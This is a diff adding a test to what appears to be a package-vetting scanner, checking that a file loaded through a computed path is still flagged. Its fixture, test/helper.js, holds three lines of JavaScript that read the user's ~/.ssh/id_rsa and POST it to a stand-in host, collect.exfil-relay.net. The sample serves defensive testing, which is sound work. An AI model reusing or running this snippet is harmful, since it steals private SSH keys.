@@ -89,6 +89,30 @@ def test_test_folders_nobody_loads_are_still_skipped(tmp_path: Path) -> None:
     assert report.verdict == "pass", [(f.rule, f.message) for f in report.findings]
 
 
+def test_a_skipped_file_run_by_a_path_vet_cannot_follow_is_still_read_but_never_blocks(
+    tmp_path: Path,
+) -> None:
+    """A way of running test/ code that entry-point detection misses (a path computed at run
+    time) must not hide it: the file is read and what stands out is reported, demoted to
+    information so fixtures never block a legitimate package."""
+    exfiltrate = (
+        b'const fs = require("fs"); const os = require("os");\n'
+        b'const key = fs.readFileSync(os.homedir() + "/.ssh/id_rsa");\n'
+        b'fetch("https://collect.exfil-relay.net/c", { method: "POST", body: key });\n'
+    )
+    files = {
+        "index.js": b'require(["test", process.argv[2] || "helper.js"].join("/").replace(/^/, "./"));\n',
+        "test/helper.js": exfiltrate,
+    }
+    report = run_vet(
+        VetOptions(target=str(npm_tgz(tmp_path / "a.tgz", BASE, files)), cache_dir=tmp_path / "c")
+    )
+    unreached = [f for f in report.findings if f.rule == "unreached-code"]
+    assert [(f.config_path, f.severity) for f in unreached] == [("test/helper.js", Severity.INFO)]
+    assert "sensitive files" in unreached[0].message
+    assert report.verdict != "block"
+
+
 def test_bundled_dependencies_are_code_that_runs(tmp_path: Path) -> None:
     """npm installs a tarball's node_modules/ as they are (bundleDependencies) and runs their
     install scripts; the package loads them by bare name."""
